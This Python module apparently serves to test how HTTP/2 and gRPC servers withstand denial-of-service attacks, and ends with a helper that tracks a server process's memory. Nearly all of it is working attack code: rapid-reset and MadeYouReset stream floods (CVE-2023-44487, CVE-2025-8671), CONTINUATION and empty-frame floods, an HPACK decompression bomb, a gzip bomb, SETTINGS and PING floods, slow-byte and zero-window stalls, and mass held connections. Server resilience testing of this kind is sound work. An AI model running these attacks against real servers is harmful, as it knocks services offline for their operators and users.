"""Attacks on an HTTP/2 server: one function for each, which returns what came back.

Nothing here keeps to the protocol unless an attack needs it to.
"""

import functools
import select
import struct
import time
import zlib

from frames import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, MAGIC, PING, SETTINGS,
    Connection, Reply, call, connection, frame, literal, message, request, reset, settings, varint, window_update,
)

EMPTY_CALL = "/grpc.testing.TestService/EmptyCall"
UNARY_CALL = "/grpc.testing.TestService/UnaryCall"
STREAMING_INPUT = "/grpc.testing.TestService/StreamingInputCall"
STREAMING_OUTPUT = "/grpc.testing.TestService/StreamingOutputCall"
PREDICT = "/tutelage.v1.Prediction/Predict"
PREDICT_STREAM = "/tutelage.v1.Prediction/PredictStream"
INFER_STREAM = "/inference.GRPCInferenceService/ModelStreamInfer"


def flood(address, opening, unit, count, reads=True):
    """Sends an opening and `count` times the same bytes, and reads until the server closes."""
    with connection(address) as attacker:
        attacker.greet()
        attacker.send(opening)
        batch = max(1, (256 << 10) // len(unit))
        while count > 0 and not attacker.is_closed:
            attacker.send(unit * min(batch, count), reads=reads)
            count -= batch
        attacker.wait()
        return attacker


def each_stream(address, units, pace=None):
    """Sends what a sequence has for each stream, and reads until the server closes.

    With a pace the server has answered a ping after each so many streams, so that it is known how many
    it acted on when it closes; else they come as fast as it takes them.
    """
    with connection(address) as attacker:
        attacker.greet()
        if pace is None:
            attacker.send(b"".join(units))
        for start in range(0, len(units) if pace else 0, pace or 1):
            attacker.send(b"".join(units[start:start + pace]) + frame(PING, 0, 0, bytes(8)))
            seen = start // pace
            if not attacker.wait(lambda: attacker.answers > seen):
                break
        attacker.wait()
        return attacker


# MARK: Attacks with resets


@functools.cache
def taken_back(pairs):
    block = request(EMPTY_CALL)
    return [frame(HEADERS, END_HEADERS, n, block) + reset(n) for n in range(1, 2 * pairs, 2)]


def rapid_reset(address, pairs=20_000, pace=None):
    """Calls that are taken back at once (CVE-2023-44487)."""
    return each_stream(address, taken_back(pairs), pace)


# How a client makes a server reset a stream (CVE-2025-8671): what follows the stream's HEADERS.
PROVOCATIONS = {
    "window overflow": lambda stream: window_update(stream, 0x7FFFFFFF),
    "window update of 0": lambda stream: window_update(stream, 0),
    "more than content-length": lambda stream: frame(DATA, END_STREAM, stream, message(b"")),
    "data after the end": lambda stream: (
        frame(DATA, END_STREAM, stream, message(b"")) + frame(DATA, 0, stream, b"more")),
}


@functools.cache
def provoked(provocation, count):
    more = [("content-length", "1")] if "content-length" in provocation else []
    block, provoke = request(STREAMING_INPUT, *more), PROVOCATIONS[provocation]
    return [frame(HEADERS, END_HEADERS, n, block) + provoke(n) for n in range(1, 2 * count, 2)]


def made_you_reset(address, provocation="window overflow", count=5_000, pace=None):
    """Streams that the server has to reset (CVE-2025-8671)."""
    return each_stream(address, provoked(provocation, count), pace)


# MARK: Attacks with headers


def continuation_flood(address, count=4_096):
    """A header list without an end, in CONTINUATION frames as large as they may be: 64 MiB."""
    part = frame(CONTINUATION, 0, 1, literal("x", "y" * 16_372))
    return flood(address, frame(HEADERS, 0, 1, request(EMPTY_CALL)), part, count)


def empty_continuations(address, count=200_000):
    """A header list without an end, in CONTINUATION frames that carry nothing."""
    return flood(address, frame(HEADERS, 0, 1, request(EMPTY_CALL)), frame(CONTINUATION, 0, 1), count)


def hpack_bomb(address, references=14_500):
    """A field of 4,000 bytes in the server's table, and 14,500 references to it: 19 KB for 57 MB."""
    block = request(EMPTY_CALL) + literal("bomb", "x" * 3_900, is_kept=True) + b"\xbe" * references
    with connection(address) as attacker:
        attacker.greet()
        reply = attacker.replies.setdefault(1, Reply())
        attacker.send(frame(HEADERS, END_STREAM, 1, block[:16_384])
                      + frame(CONTINUATION, END_HEADERS, 1, block[16_384:]))
        attacker.wait(lambda: reply.ended or reply.reset is not None)
        return attacker


# MARK: Attacks with frames that cost only the server


def settings_flood(address, count=100_000):
    """SETTINGS whose acknowledgements nobody reads."""
    return flood(address, b"", settings(), count, reads=False)


def ping_flood(address, count=100_000):
    """PINGs whose answers nobody reads."""
    return flood(address, b"", frame(PING, 0, 0, bytes(8)), count, reads=False)


def empty_data(address, count=200_000):
    """DATA that carries nothing."""
    return flood(address, call(1, STREAMING_INPUT), frame(DATA, 0, 1), count)


# MARK: Attacks with time


def half_prefaces(address, count=200, seconds=30):
    """Connections that say nothing, half of the preface, or no more than it.

    Returns how many of them the server closed, and after how many seconds the last.
    """
    openings = [b"", MAGIC[:12], MAGIC]
    held = [Connection(address, greets=False) for _ in range(count)]
    for number, half in enumerate(held):
        half.send(openings[number % len(openings)])
    end = time.monotonic() + seconds
    waiting = set(held)
    while waiting and time.monotonic() < end:
        readable, _, _ = select.select([half.socket for half in waiting], [], [], end - time.monotonic())
        ready = set(readable)
        for half in [half for half in waiting if half.socket in ready]:
            half._read()
            if half.is_closed:
                waiting.discard(half)
    for half in held:
        half.close()
    return count - len(waiting), max((half.closed_after or 0) for half in held)


def slow_bytes(address, path=UNARY_CALL, timeout="1S", seconds=10):
    """A message that comes a byte each 100 ms, of a call that is to be over in a second."""
    with connection(address) as attacker:
        attacker.greet()
        attacker.send(call(1, path, ("grpc-timeout", timeout)))
        attacker.started = time.monotonic()
        reply = attacker.replies.setdefault(1, Reply())
        body = iter(message(bytes(10_000)))
        while not reply.ended and time.monotonic() < attacker.started + seconds and not attacker.is_closed:
            attacker.send(frame(DATA, 0, 1, bytes([next(body)])))
            attacker.wait(lambda: reply.ended, seconds=0.1)
        return attacker


def zero_window(address, path=UNARY_CALL, calls=100, size=1 << 20, seconds=60):
    """Calls for large responses of which nothing may be sent, until the server closes."""
    with connection(address, (INITIAL_WINDOW_SIZE, 0)) as attacker:
        attacker.greet()
        if path == UNARY_CALL:
            content = b"\x10" + varint(size)
        else:
            parameter = b"\x08" + varint(size)
            content = b"\x12" + varint(len(parameter)) + parameter
        for stream in range(1, 2 * calls, 2):
            attacker.send(call(stream, path) + frame(DATA, END_STREAM, stream, message(content)))
        attacker.wait(seconds=seconds)
        return attacker


def unread_streams(address, path, content, streams, messages, *more, flags=0, seconds=60):
    """Requests of many streams, all sent, of whose answers nothing may be sent; until the server closes
    or the time is over.

    All of it must fit the windows of the connection (4 MiB) and of each stream (1 MiB).
    """
    body = message(content, flags) * messages
    with connection(address, (INITIAL_WINDOW_SIZE, 0)) as attacker:
        attacker.greet()
        for stream in range(1, 2 * streams, 2):
            attacker.send(call(stream, path, *more))
            for start in range(0, len(body), 16_384):
                attacker.send(frame(DATA, 0, stream, body[start:start + 16_384]))
        attacker.wait(seconds=seconds)
        return attacker


# MARK: Attacks with messages


def one_call(address, path, body, *more, ends=True, seconds=30):
    """A call with any body; returns the connection, whose only reply is on stream 1."""
    with connection(address) as attacker:
        attacker.greet()
        reply = attacker.replies.setdefault(1, Reply())
        attacker.send(call(1, path, *more))
        for start in range(0, len(body) or 1, 16_384):
            part = body[start:start + 16_384]
            is_last = ends and start + 16_384 >= len(body)
            attacker.send(frame(DATA, END_STREAM if is_last else 0, 1, part))
        attacker.wait(lambda: reply.ended or reply.reset is not None, seconds)
        return attacker


def length_prefix(address, path=UNARY_CALL):
    """The prefix of a message of 4 GiB - 1."""
    return one_call(address, path, b"\0\xff\xff\xff\xff", ends=False)


def zeros(size):
    """`size` MiB of zeros by gzip, 1 KiB for each."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    mebibyte = bytes(1 << 20)
    # After a full flush nothing refers to what was before: the same bytes may come again and again.
    first = packer.compress(mebibyte) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(mebibyte) + packer.flush(zlib.Z_FULL_FLUSH)
    last, check = packer.flush(), 0
    for _ in range(size):
        check = zlib.crc32(mebibyte, check)
    header = b"\x1f\x8b\x08\0\0\0\0\0\x02\xff"
    return header + first + again * (size - 1) + last + struct.pack("<II", check, (size << 20) & 0xFFFFFFFF)


def gzip_bomb(address, bomb, path=UNARY_CALL):
    """A compressed message of 1 MiB that would be 1 GiB: pass `zeros(1024)`."""
    return one_call(address, path, message(bomb, flags=1), ("grpc-encoding", "gzip"))


def truncated(address, path=UNARY_CALL):
    """A stream that ends within a message."""
    return one_call(address, path, message(bytes(100))[:50])


def malformed(address, path=UNARY_CALL):
    """A message that is none: a field whose length passes its end."""
    return one_call(address, path, message(b"\x1a\xff\x7f\x01"))


def unknown_flag(address, path=UNARY_CALL):
    """A message whose flags are 2."""
    return one_call(address, path, message(b"", flags=2))


def long_path(address):
    """A path of 7,000 bytes."""
    return one_call(address, "/" + "x" * 6_999, message(b""))


def open_streams(address, count=1_000, while_open=lambda: None):
    """Calls that begin and never go on; `while_open` looks at the server meanwhile."""
    with connection(address) as attacker:
        attacker.greet()
        block = request(STREAMING_INPUT)
        attacker.send(b"".join(
            frame(HEADERS, END_HEADERS, stream, block) for stream in range(1, 2 * count, 2)))
        attacker.send(frame(PING, 0, 0, bytes(8)))
        attacker.wait(lambda: attacker.answers > 0)
        while_open()
        return attacker


# MARK: Crowds


def in_frames(stream, body):
    """DATA frames of a body that does not end."""
    return b"".join(frame(DATA, 0, stream, body[start:start + 16_384]) for start in range(0, len(body), 16_384))


def asks_for(size):
    parameter = b"\x08" + varint(size)
    return message(b"\x12" + varint(len(parameter)) + parameter)


# What each connection of a crowd sends, after settings of its own, and then holds.
CROWDS = {
    "nothing": ([], b""),
    "a quarter of a message": ([], call(1, UNARY_CALL) + in_frames(1, message(bytes(4_000_000))[:1_000_000])),
    "a streamed part of one": ([], call(1, STREAMING_INPUT) + in_frames(1, message(bytes(4_000_000))[:1_000_000])),
    "eight answers untaken": ([(INITIAL_WINDOW_SIZE, 0)], b"".join(
        call(stream, STREAMING_OUTPUT) + frame(DATA, END_STREAM, stream, asks_for(200_000))
        for stream in range(1, 16, 2))),
}


def crowd(address, kind, count=1_000):
    """Connections that hold what they can; returns them open, for the caller to close."""
    settings_of_own, opening = CROWDS[kind]
    held = []
    for _ in range(count):
        one = Connection(address, *settings_of_own)
        one.greet()
        one.send(opening)
        held.append(one)
    return held


# MARK: Innocents


class Memory:
    """The memory of a process, and its peak since the last `mark`."""

    def __init__(self, pid):
        self.pid = pid
        self.mark()

    def mark(self):
        """Forgets the peak; Linux keeps it per process."""
        with open(f"/proc/{self.pid}/clear_refs", "w") as file:
            file.write("5")
        self.before = self._kib("VmRSS")

    def growth_now(self):
        """KiB by which what is held now is above what was held at the mark."""
        return self._kib("VmRSS") - self.before

    def growth(self):
        """KiB by which the peak since the mark is above what was held then."""
        return self._kib("VmHWM") - self.before

    def _kib(self, name):
        with open(f"/proc/{self.pid}/status") as file:
            return next(int(line.split()[1]) for line in file if line.startswith(name + ":"))
